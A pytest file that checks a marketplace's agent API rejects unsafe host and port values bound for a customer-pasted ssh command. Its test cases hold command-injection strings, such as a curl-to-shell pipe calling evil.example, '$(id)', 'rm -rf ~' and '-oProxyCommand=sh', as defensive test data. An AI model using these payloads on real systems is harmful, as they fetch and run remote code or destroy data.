"""An agent's start job tells customers where to connect: the host lands in the portal's
`ssh -p PORT root@HOST`, which customers paste into a shell. A stolen node token or a buggy
agent must not put a command, a space or a look-alike Unicode name there."""

import pytest

from marketplace.models import AgentJob, AgentJobStatus, Allocation
from marketplace.provisioning.drivers import SiteAgentDriver
from marketplace.provisioning.services import reservation_provision_step
from tests.marketplace.market_helpers import allow_all_funding  # noqa: F401 (fixture)
from tests.provisioning_support import agent_client, market_create, ssh_key

pytestmark = [pytest.mark.usefixtures("allow_all_funding")]
LEASE = "/api/v1/agent/jobs/lease"


@pytest.fixture
def start_job(db):
    """A due reservation's start job, leased by its node's agent: (agent, leased job)."""
    market = market_create(nodes=1, gpus=4)
    r = market.book(
        gpu_count=2,
        workload={"image": "ghcr.io/acme/train:1.0", "ssh_public_keys": [ssh_key()]},
    )
    reservation_provision_step(reservation_id=r.pk, driver=SiteAgentDriver(), check_window=0)
    agent = agent_client(Allocation.objects.filter(reservation=r).first().node)
    prepare = agent.post(LEASE, {}, format="json").data
    agent.post(f"/api/v1/agent/jobs/{prepare['id']}/complete", {"lease_id": prepare["lease_id"]})
    start = agent.post(LEASE, {}, format="json").data
    assert start["kind"] == "start"
    return agent, start


def _complete(agent, job, result):
    return agent.post(
        f"/api/v1/agent/jobs/{job['id']}/complete",
        {"lease_id": job["lease_id"], "result": result},
        format="json",
    )


@pytest.mark.parametrize(
    "host",
    [
        "gpu7.site.example; curl https://evil.example/x | sh",
        "$(curl evil.example)",
        "`id`.site.example",
        "gpu7.site.example\nrm -rf ~",
        "gpu7 site.example",
        "gpu7.sitе.example",  # a Cyrillic "е"
        "-oProxyCommand=sh",
        "gpu7..site.example",
        "fe80::1%$(id)",  # an IPv6 zone: ipaddress takes any text after the %
        "a" * 64 + ".example",  # a label past 63 characters
    ],
)
def test_a_host_that_is_not_a_dns_name_or_ip_address_is_refused_and_the_job_stays_leased(
    start_job, host
):
    agent, job = start_job

    response = _complete(agent, job, {"host": host, "ssh_port": 40022})

    assert response.status_code == 400
    assert response.json()["error"]["field"] == "host"
    assert response.json()["error"]["code"] in ("invalid_host", "max_length")
    stored = AgentJob.objects.get(pk=job["id"])
    assert (stored.status, stored.result) == (AgentJobStatus.LEASED, {})


def test_a_published_port_not_named_by_a_port_number_is_refused(start_job):
    agent, job = start_job

    response = _complete(
        agent, job, {"host": "gpu7.site.example", "ports": {"8888; rm -rf ~": 40888}}
    )

    assert response.status_code == 400
    assert response.json()["error"]["code"] == "invalid_port"
    assert AgentJob.objects.get(pk=job["id"]).status == AgentJobStatus.LEASED


@pytest.mark.parametrize(
    "host", ["gpu7.site.example", "GPU-7.xn--bcher-kva.example.", "10.0.0.5", "2001:db8::7", "h"]
)
def test_dns_names_and_ip_addresses_are_taken(start_job, host):
    agent, job = start_job

    response = _complete(agent, job, {"host": host, "ssh_port": 40022, "ports": {"8888": 40888}})

    assert response.status_code == 200
    stored = AgentJob.objects.get(pk=job["id"])
    assert stored.status == AgentJobStatus.DONE
    assert stored.result == {"host": host, "ssh_port": 40022, "ports": {"8888": 40888}}
